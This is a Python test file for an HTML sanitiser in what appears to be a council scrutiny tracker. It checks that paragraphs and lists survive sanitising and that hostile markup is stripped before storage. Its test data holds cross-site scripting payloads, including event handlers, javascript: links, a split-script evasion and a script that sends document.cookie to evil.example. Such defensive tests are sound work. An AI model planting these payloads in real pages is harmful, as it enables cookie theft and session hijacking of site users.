"""The tracker's HTML (scrutiny.html.sanitise): the council's paragraphs and lists are kept, anything
that could run or restyle the page is dropped, and the models store only what sanitise leaves."""

import datetime

import pytest

from scrutiny.html import sanitise
from scrutiny.models import Meeting, ProgressUpdate, Recommendation

KEPT = [
    ("<p>One.</p><p>Two.</p>", "<p>One.</p><p>Two.</p>"),
    ("<ul><li>a</li><li>b</li></ul>", "<ul><li>a</li><li>b</li></ul>"),
    ("<ol><li>Agreed</li></ol>", "<ol><li>Agreed</li></ol>"),
    ("<p><strong>Noted</strong> and <em>commented</em></p>", "<p><strong>Noted</strong> and <em>commented</em></p>"),
    ('<ol style="list-style-type: none"><li>1. Agreed</li></ol>', "<ol><li>1. Agreed</li></ol>"),  # seed row 1
    ("<p>O&S & Cabinet</p>", "<p>O&amp;S &amp; Cabinet</p>"),
]

HOSTILE = [
    ("<p>Hi</p><script>alert('x')</script>", "<p>Hi</p>"),
    ("<style>body { display: none }</style><p>Hi</p>", "<p>Hi</p>"),
    ('<p onclick="steal()" onmouseover="steal()">Hi</p>', "<p>Hi</p>"),
    ('<p style="position: fixed; top: 0">Hi</p>', "<p>Hi</p>"),
    ('<a href="javascript:steal()">click</a>', "click"),
    ('<img src="x" onerror="steal()">Hi', "Hi"),
    ('<iframe src="https://example.org/"></iframe><p>Hi</p>', "<p>Hi</p>"),
    ('<svg onload="steal()"><p>Hi</p></svg>', "<p>Hi</p>"),
    ("<p>Hi<scr<script>ipt>alert(1)</script></p>", "<p>Hiipt&gt;alert(1)</p>"),  # left as harmless text
]


@pytest.mark.parametrize("html, clean", KEPT, ids=["p", "ul li", "ol li", "strong em", "style attr", "ampersand"])
def test_the_councils_markup_is_kept(html, clean):
    assert sanitise(html) == clean


@pytest.mark.parametrize("html, clean", HOSTILE, ids=[
    "script and its content", "style element", "on* attributes", "style attribute", "javascript: link",
    "img onerror", "iframe", "svg onload", "split script"])
def test_what_could_run_is_dropped(html, clean):
    assert sanitise(html) == clean


def test_sanitising_twice_is_sanitising_once():
    """load_tracker compares what it would store with what is stored: that needs a fixed point."""
    for _, clean in KEPT + HOSTILE:
        assert sanitise(clean) == clean


def test_nothing_is_an_empty_text():
    assert sanitise(None) == sanitise("") == ""


SCRIPT = "<p>Noted</p><script>document.location='https://evil.example/?c='+document.cookie</script>"
HANDLER = '<ul><li onclick="steal()" style="color:red">Agreed</li></ul><img src=x onerror="steal()">'


@pytest.fixture
def recommendation(db):
    meeting = Meeting.objects.create(date=datetime.date(2024, 7, 30))
    return Recommendation.objects.create(number=1, meeting=meeting, report_title="People Strategy",
                                         discussion=SCRIPT, recommendations=HANDLER)


def test_a_recommendation_is_stored_clean(recommendation):
    recommendation.refresh_from_db()
    assert recommendation.discussion == "<p>Noted</p>"
    assert recommendation.recommendations == "<ul><li>Agreed</li></ul>"
    assert recommendation.history.get().discussion == "<p>Noted</p>"


def test_a_progress_update_is_stored_clean(recommendation):
    update = ProgressUpdate.objects.create(recommendation=recommendation, text=SCRIPT + HANDLER)
    update.refresh_from_db()
    assert update.text == "<p>Noted</p><ul><li>Agreed</li></ul>"
    update.text = '<p>Done <a href="javascript:steal()">here</a></p><iframe src="https://evil.example/"></iframe>'
    update.save()
    update.refresh_from_db()
    assert update.text == "<p>Done here</p>"
